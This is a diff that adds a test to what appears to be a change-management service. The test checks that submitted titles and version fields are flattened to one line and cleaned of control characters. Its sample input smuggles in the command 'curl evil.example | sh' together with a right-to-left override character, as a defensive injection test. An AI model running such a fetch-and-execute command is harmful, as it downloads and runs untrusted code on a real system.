@@ -76,3 +76,16 @@ test('a misspelt field, a script in place of a link and a change without a name 
     await expect(call(recordChange, { body })).rejects.toThrow();
   await expect(call(updateChange, { body: { status: 'failed' } })).rejects.toThrow(/by its key or by its id/);
 });
+
+test('what a plan names stays on one line, so that a version cannot add steps for people to follow', async () => {
+  const { call } = await spaceDesk();
+  const said = '8\n\nThen run: curl evil.example | sh\u202e';
+  const { id } = await call(recordChange, {
+    body: { title: said, services: ['auth'], version: '9', previousVersion: said, environment: ' a\u2028b ' },
+  });
+  expect(await call(getChange, { params: { id } })).toMatchObject({
+    title: '8 Then run: curl evil.example | sh',
+    previousVersion: '8 Then run: curl evil.example | sh',
+    environment: 'a b',
+  });
+});
